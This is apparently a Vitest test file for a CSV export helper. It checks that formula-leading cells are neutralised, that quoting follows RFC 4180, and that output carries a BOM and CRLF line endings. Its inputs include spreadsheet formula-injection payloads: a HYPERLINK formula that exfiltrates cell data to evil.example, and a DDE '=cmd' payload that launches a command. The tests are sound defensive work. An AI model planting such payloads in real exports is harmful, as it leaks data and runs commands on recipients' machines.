import { describe, expect, it } from "vitest";
import { csvCell, csvDocument, csvRow } from "@/lib/csv";

describe("csvCell", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+41 22 917 12 34", "'+41 22 917 12 34"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\tcmd", "'\tcmd"],
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ['=cmd|" /C calc"!A0', `"'=cmd|"" /C calc""!A0"`],
    ["  =1+1", "'  =1+1"],
  ])("neutralises the formula in %j", (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it("neutralises a leading carriage return or line break, and quotes the cell that holds it", () => {
    expect(csvCell("\r=1+1")).toBe("\"'\r=1+1\"");
    expect(csvCell("\n=1+1")).toBe("\"'\n=1+1\"");
  });

  it("leaves ordinary text alone and quotes only what needs quoting", () => {
    expect(csvCell("Sima Bahous")).toBe("Sima Bahous");
    expect(csvCell("a=b")).toBe("a=b");
    expect(csvCell("UN Women, New York")).toBe('"UN Women, New York"');
    expect(csvCell('The "fourth" meeting')).toBe('"The ""fourth"" meeting"');
    expect(csvCell("two\r\nlines")).toBe('"two\r\nlines"');
    expect(csvCell("KAMIKAWA 上川陽子")).toBe("KAMIKAWA 上川陽子");
  });

  it("writes nothing for null and undefined, and numbers as they are", () => {
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
    expect(csvCell(3)).toBe("3");
    expect(csvCell(0)).toBe("0");
  });
});

describe("csvDocument", () => {
  it("starts with a UTF-8 byte-order mark and ends every line with CRLF", () => {
    const doc = csvDocument(["Name", "Email"], [["Zoë", "zoe@example.org"], ["=evil()", "x@example.org"]]);
    expect(doc.startsWith("\uFEFF")).toBe(true);
    expect(doc).toBe("\uFEFFName,Email\r\nZoë,zoe@example.org\r\n'=evil(),x@example.org\r\n");
    expect(Buffer.from(doc, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it("keeps every row's cell count whatever the cells hold", () => {
    const parsed = parseCsv(csvRow(["a,b", 'c"d', "e\nf", "=x"]));
    expect(parsed).toEqual(["a,b", 'c"d', "e\nf", "'=x"]);
  });
});

/** A strict RFC 4180 reader for one record, to check that what is written reads back cell for cell. */
function parseCsv(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let value = "";
      i++;
      for (;;) {
        if (line[i] === '"' && line[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (line[i] === '"') {
          i++;
          break;
        } else value += line[i++];
      }
      cells.push(value);
      i++;
    } else {
      const end = line.indexOf(",", i);
      cells.push(line.slice(i, end === -1 ? line.length : end));
      i = end === -1 ? line.length + 1 : end + 1;
    }
  }
  return cells;
}
